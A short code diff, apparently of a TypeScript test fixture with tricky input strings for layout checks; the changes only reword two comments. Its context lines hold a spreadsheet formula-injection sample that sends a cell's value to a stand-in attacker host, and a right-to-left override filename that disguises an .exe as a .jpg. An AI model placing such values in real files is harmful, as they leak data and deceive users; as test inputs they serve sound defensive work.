@@ -26,7 +26,7 @@ export const kinds = {
   formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
   /** Reads as another text, and reverses the text after it. */
   turned: 'Invoice \u202Egpj.exe',
-  /** Has no place to break. */
+  /** Has no space at which a line could break. */
   word: 'W'.repeat(200),
 } as const;
 type Kind = keyof typeof kinds;
@@ -191,7 +191,7 @@ function madeByText(): string[] {
   const { scrollWidth, clientWidth } = document.documentElement;
   const isTooWide = (one: Element): boolean => one.getBoundingClientRect().right > clientWidth + 1;
   const widest = [...document.querySelectorAll('main *')].findLast(isTooWide);
-  // Paper has its own width.
+  // A printed page has another width than the screen.
   if (scrollWidth > clientWidth && !matchMedia('print').matches)
     made.push(
       `scrolls sideways: ${scrollWidth} of ${clientWidth} px, ${widest?.outerHTML.slice(0, 200)}`,
